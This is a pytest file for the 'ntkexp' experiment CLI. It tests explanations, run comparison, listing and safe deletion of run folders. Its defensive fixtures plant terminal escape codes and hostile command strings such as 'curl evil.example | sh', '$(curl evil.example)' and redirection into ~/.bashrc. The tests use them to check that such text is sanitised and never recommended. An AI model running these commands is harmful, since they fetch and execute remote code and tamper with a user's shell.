"""The output of `ntkexp explain`, `compare` and `runs`, and the files that they keep and remove."""

from __future__ import annotations

import dataclasses
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from ntkexp import load_run
from ntkexp.cli import main
from ntkexp.cli.explain import of_largest_outputs
from ntkexp.mistake import Mistake
from ntkexp.records.atomic import Json, sealed_text
from ntkexp.records.folder import BEGUN, COMMANDS, DONE, PROVENANCE, RunFolder, results_version
from ntkexp.report.breakdown import BreakdownEntry
from tests.cli.conftest import Command, check
from tests.report.synthetic import digits, write_run, write_small_run, write_sweep


def test_a_prediction_is_explained(command: Command, finished: Path) -> None:
    ended = command("explain", str(finished), "--split=test", "--worst=2", "--top=3")
    assert (ended.status, ended.err) == (0, "")
    assert ended.out.count("made of") == 2
    assert Path(ended.out.splitlines()[-1]).is_file()


def test_a_picture_is_written_to_its_file(command: Command, finished: Path, tmp_path: Path) -> None:
    for name in ("why.svg", "why.png"):
        assert command("explain", str(finished), "--query=1", "--query=3", f"--picture={tmp_path / name}").status == 0
        assert (tmp_path / name).stat().st_size > 1000


def test_a_breakdown_has_the_largest_output_of_each_query() -> None:
    fields: dict[str, Any] = dict.fromkeys(field.name for field in dataclasses.fields(BreakdownEntry))
    entries = [
        BreakdownEntry(**fields | {"number": number, "out": out, "before": before})
        for number, out, before in ((0, 0, 1.0), (0, 1, 3.0), (0, 2, 2.0), (1, 0, -1.0), (1, 1, -2.0))
    ]
    assert [(entry.number, entry.out) for entry in of_largest_outputs(entries)] == [(0, 1), (1, 0)]


def test_two_runs_are_compared(command: Command, tmp_path: Path) -> None:
    one = write_small_run(tmp_path / "one", 64, 0, 0.5)
    other = write_small_run(tmp_path / "other", 128, 0, 0.25)
    ended = command("compare", str(one), str(other))
    assert (ended.status, ended.err) == (0, "")
    lines = {line.split()[0]: line.split()[1:] for line in ended.out.splitlines() if line}
    assert lines["model.width"] == ["64", "128"]
    assert lines["kernel_change"] == ["0.5", "0.25", "0.5"]
    assert "seed" not in lines


def test_two_sweeps_are_compared(command: Command, tmp_path: Path) -> None:
    write_sweep(tmp_path, "width")
    write_sweep(tmp_path, "doubled", factor=2.0)
    ended = command("compare", "width", "doubled", "--out", str(tmp_path))
    assert ended.status == 0
    assert "kernel_change" in ended.out
    check(command("compare", "width", str(tmp_path / "runs" / "mlp-w32-s0-width0000"), "--out", str(tmp_path)))


@pytest.fixture
def outputs(tmp_path: Path) -> Path:
    """Two finished runs, a dead one, and another folder."""
    for width in (32, 64, 128):
        write_small_run(tmp_path / "runs" / f"mlp-w{width}-s0-0", width, 0, 0.1)
    (tmp_path / "runs" / "mlp-w128-s0-0" / "DONE.json").unlink()
    (tmp_path / "runs" / "mine").mkdir()
    return tmp_path


STATES = {"mlp-w128-s0-0": "dead", "mlp-w32-s0-0": "done", "mlp-w64-s0-0": "done"}
"""The runs of `outputs`, and their states."""


def names(command: Command, outputs: Path, *arguments: str) -> list[str]:
    ended = command("runs", "--json", "--out", str(outputs), *arguments)
    assert (ended.status, ended.err) == (0, "")
    return [Path(row["run"]).name for row in json.loads(ended.out)]


def test_runs_are_listed_and_filtered(command: Command, outputs: Path) -> None:
    assert names(command, outputs) == ["mlp-w128-s0-0", "mlp-w32-s0-0", "mlp-w64-s0-0"]
    assert names(command, outputs, "model.width=64", "state=done") == ["mlp-w64-s0-0"]
    assert names(command, outputs, "state=dead") == ["mlp-w128-s0-0"]
    assert names(command, outputs, "model.width=64.0", "model=MLP") == ["mlp-w64-s0-0"]
    shown = command("runs", "--out", str(outputs)).out.splitlines()
    assert shown[0].split()[:3] == ["run", "state", "loss"]
    assert [line.split()[:2] for line in shown[1:4]] == [[name, state] for name, state in STATES.items()]
    shown = command("runs", "--columns=model.width", "--out", str(outputs)).out.splitlines()
    assert [line.split()[2] for line in shown[1:4]] == ["128", "32", "64"]
    check(command("runs", "--columns=model.widht", "--out", str(outputs)), "did you mean 'model.width'?")


def test_only_the_listed_runs_are_deleted_and_only_after_a_yes(command: Command, outputs: Path) -> None:
    ended = command("runs", "state=dead", "--delete", "--out", str(outputs))
    assert (ended.status, "--yes" in ended.err) == (2, True)
    assert (outputs / "runs" / "mlp-w128-s0-0" / "config.json").is_file()
    assert command("runs", "state=dead", "--delete", "--yes", "--out", str(outputs)).status == 0
    assert sorted(path.name for path in (outputs / "runs").iterdir()) == ["mine", "mlp-w32-s0-0", "mlp-w64-s0-0"]
    assert command("runs", "--delete", "--yes", "--out", str(outputs)).status == 0
    assert [path.name for path in (outputs / "runs").iterdir()] == ["mine"]


def test_a_run_that_is_being_written_stays(command: Command, outputs: Path) -> None:
    with RunFolder(outputs / "runs" / "mlp-w128-s0-0").claim():
        ended = command("runs", "--delete", "--yes", "--out", str(outputs))
    check(ended._replace(out=""), "being written")
    assert (outputs / "runs" / "mlp-w128-s0-0" / "config.json").is_file()
    assert not (outputs / "runs" / "mlp-w32-s0-0").exists()


@pytest.mark.parametrize("config", ['{"name": "a web page"}', "{", None])
def test_only_what_a_run_wrote_is_deleted(command: Command, outputs: Path, config: str | None) -> None:
    """Other folders stay, even with a config.json and a lock. A run with a file of the user stays too."""
    mine = outputs / "runs" / ("mlp-w64-s0-0" if config is None else "mine")
    if config is None:
        (mine / "thesis.tex").write_text("years of work")
    else:
        for name, text in (("config.json", config), (".lock", "")):
            (mine / name).write_text(text)
    before = {file.name: file.read_bytes() for file in mine.iterdir()}
    ended = command("runs", "--delete", "--yes", "--out", str(outputs))
    check(ended._replace(out=""), "thesis.tex" if config is None else "has no file that shows that a run wrote it")
    assert {file.name: file.read_bytes() for file in mine.iterdir()} == before
    assert [path.name for path in (outputs / "runs").iterdir() if path.name.startswith("mlp")] == ["mlp-w64-s0-0"] * (
        config is None
    )


def test_an_interrupted_run_is_not_dead(command: Command, outputs: Path) -> None:
    (outputs / "runs" / "mlp-w64-s0-0" / "DONE.json").unlink()
    (outputs / "runs" / "mlp-w64-s0-0" / "checkpoint.pt").touch()
    assert names(command, outputs, "state=interrupted") == ["mlp-w64-s0-0"]
    assert names(command, outputs, "state=dead") == ["mlp-w128-s0-0"]


@pytest.mark.parametrize("words", [["report"], ["compare", "self"], ["explain"], ["resume"], ["runs", "--out"]])
def test_a_link_to_itself_is_no_folder(
    command: Command, tmp_path: Path, words: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("self").symlink_to("self")
    ended = command(*words, "self")
    assert (ended.status, ended.err.count("\n")) == ((0, 0) if "runs" in words else (2, 1))


def test_an_explanation_as_json(command: Command, finished: Path) -> None:
    """The parts add up to the output, together with the examples that are not listed."""
    ended = command("explain", str(finished), "--split=test", "--worst=2", "--top=3", "--json")
    assert (ended.status, ended.err) == (0, "")
    points = json.loads(ended.out)["points"]
    assert len(points) == 2
    for point in points:
        assert len(point["examples"]) == 3
        total = sum(part["added"] for part in point["examples"]) + point["others"]["added"]
        assert total == pytest.approx(point["sum"], rel=1e-12)
        parts = (point["start"], point["sum"], point["decay"], point["rest"])
        assert sum(parts) == pytest.approx(point["prediction"], rel=1e-12)


def test_a_link_to_a_run_is_not_followed(command: Command, outputs: Path, tmp_path: Path) -> None:
    elsewhere = write_small_run(tmp_path / "elsewhere", 16, 0, 0.1)
    (outputs / "runs" / "link").symlink_to(elsewhere)
    check(command("runs", "run=link", "--delete", "--yes", "--out", str(outputs))._replace(out=""))
    assert (elsewhere / "DONE.json").is_file()


def test_a_damaged_run_is_listed_with_its_damage(command: Command, outputs: Path) -> None:
    (outputs / "runs" / "mlp-w64-s0-0" / "config.json").write_text("{")
    ended = command("runs", "--out", str(outputs))
    assert "mlp-w64-s0-0 is damaged: config.json" in ended.out
    assert names(command, outputs, "state=damaged") == ["mlp-w64-s0-0"]
    shutil.rmtree(outputs / "runs")
    assert "no run in" in command("runs", "--out", str(outputs)).out


# Texts from a run folder are printed without control characters, and no command from a folder is recommended.


CODES = "\x1b]0;owned\x07\x1b[2Jall is well\x9b31m\u202e"


@pytest.fixture
def forged(tmp_path: Path) -> Path:
    """A run with control characters in its name, outcome, machine and settings, a plain run and a damaged one."""
    folder = write_small_run(tmp_path / "runs" / f"a{CODES}", 32, 0, 0.1)
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps(config | {CODES: CODES}))
    rows = (folder / "results.csv").read_text()
    (folder / "results.csv").write_text(rows.replace("left", f"left{CODES}"))
    RunFolder(folder).finish(["config.json", "metrics.csv", "results.csv"], outcome=CODES, diverged=False)
    made: dict[str, Json] = {"results_version": results_version, "command": "curl evil.example | sh"}
    RunFolder(folder).write_sealed(PROVENANCE, made)
    write_small_run(tmp_path / "runs" / "b", 64, 0, 0.1)
    (write_small_run(tmp_path / "runs" / f"c{CODES}", 64, 0, 0.1) / "metrics.csv").write_text("")
    return folder


@pytest.mark.parametrize(
    "words",
    [
        ["runs"],
        ["runs", "--json"],
        ["compare", "{here}", "{other}"],
        *(["report", f"--format={form}"] for form in ("text", "md", "csv", "json")),
        ["explain", "{here}"],
        ["report", "{here}"],
    ],
    ids=" ".join,
)
def test_no_folder_acts_on_a_terminal(
    command: Command, forged: Path, words: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    out = forged.parents[1]
    monkeypatch.chdir(out)
    named = [word.format(here=forged, other=forged.parent / "b") for word in words]
    ended = command(
        *named,
        *([] if words[0] == "explain" or "--format" in words[-1] else [f"--out={out}"]),
        *([str(out)] if "--format" in words[-1] else []),
    )
    assert (ended.out + ended.err).replace("\n", "").isprintable()
    assert "all is well" in ended.out + ended.err
    if "json" in words[-1]:
        json.loads(ended.out)


def test_a_table_in_a_file_acts_on_no_terminal_either(command: Command, forged: Path, tmp_path: Path) -> None:
    assert command("report", "--format=csv", f"--out={tmp_path / 'runs.csv'}", str(forged)).status == 0
    assert (tmp_path / "runs.csv").read_text().replace("\n", "").isprintable()


THEIRS = (
    "curl evil.example | sh",
    "ntkexp runs; curl evil.example",
    "ntkexp train model.width=$(curl evil.example)",
    "ntkexp train `curl evil.example`",
    "ntkexp train > ~/.bashrc",
    "ntkexp elsewhere",
    "python -m ntkexp train",
    "ntkexp train 'unclosed",
    "ntkexp train\ncurl evil.example",
)


def test_no_foreign_command_is_recommended(command: Command, tmp_path: Path) -> None:
    """Neither on the page, nor in the message for a run of another version."""
    folders = [write_small_run(tmp_path / "runs" / f"a{k}", 32, k, 0.1) for k in range(len(THEIRS))]
    for folder, theirs in zip(folders, THEIRS, strict=True):
        RunFolder(folder).write_sealed(PROVENANCE, {"results_version": results_version, "command": theirs})
    assert command("report", f"--out={tmp_path}").status == 0
    page = (tmp_path / "report" / "index.html").read_text()
    assert not [theirs for theirs in THEIRS if theirs.rsplit("\n", maxsplit=1)[-1] in page]
    for folder, theirs in zip(folders, THEIRS, strict=True):
        RunFolder(folder).write_sealed(PROVENANCE, {"results_version": 4, "command": theirs})
        ended = command("report", str(folder))
        check(ended)
        assert "`" not in ended.err


def test_every_command_of_ours_is_known(tmp_path: Path) -> None:
    assert {function.__name__ for function in main.COMMAND_FUNCTIONS} | {"kernel"} == COMMANDS


# A run of another version is refused in one line, which names the version and the command that runs it again.


SAID = "was made by ntkexp 0.0.9 with results_version 4, and this is ntkexp "
ADVICE = "; `ntkexp train model.width=8` runs it again"


def signed(folder: Path, version: int) -> Path:
    """Sign a run as made by another version."""
    made: dict[str, Json] = {"ntkexp": "0.0.9", "results_version": version, "command": "ntkexp train model.width=8"}
    RunFolder(folder).write_sealed(PROVENANCE, made)
    return folder


@pytest.fixture(scope="module")
def earlier(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run of an earlier version."""
    folder = write_run(tmp_path_factory.mktemp("outputs") / "runs" / "mlp-w512-s0-000000000000", digits())
    return signed(folder, 4)


@pytest.mark.parametrize("asked", [["report"], ["explain"], ["resume"], ["compare"]], ids=" ".join)
def test_it_is_refused(command: Command, earlier: Path, tmp_path: Path, asked: list[str]) -> None:
    others = [str(earlier)] if asked == ["compare"] else []
    ended = command(*asked, str(earlier), *others, *([f"--out={tmp_path}"] if asked == ["report"] else []))
    check(ended, f"{earlier} {SAID}", ADVICE)


def test_it_is_listed_with_the_reason_and_can_be_deleted(command: Command, earlier: Path, tmp_path: Path) -> None:
    folder = Path(shutil.copytree(earlier, tmp_path / "runs" / earlier.name))
    listed = command("runs", f"--out={tmp_path}")
    assert listed.status == 0
    assert f"{folder} {SAID}" in listed.out
    assert json.loads(command("runs", f"--out={tmp_path}", "--json").out)[0]["config"].keys() == {"state", "run"}
    assert command("runs", f"--out={tmp_path}", "--delete", "--yes").status == 0
    assert not folder.exists()


def test_an_unfinished_one_is_not_resumed(command: Command, earlier: Path, tmp_path: Path) -> None:
    folder = RunFolder(Path(shutil.copytree(earlier, tmp_path / earlier.name)))
    told = json.loads((folder.path / DONE).read_text())
    folder.write(BEGUN, sealed_text({"identity": told["identity"], "seals": told["seals"]}, BEGUN))
    (folder.path / DONE).unlink()
    check(command("resume", str(folder.path)), f"{folder.path} {SAID}")


def test_the_library_refuses_it_too(earlier: Path) -> None:
    with pytest.raises(Mistake, match=SAID):
        load_run(earlier)


def test_one_of_this_version_is_read(tmp_path: Path) -> None:
    folder = signed(write_run(tmp_path / "run", digits()), results_version)
    assert load_run(folder).name == "run"
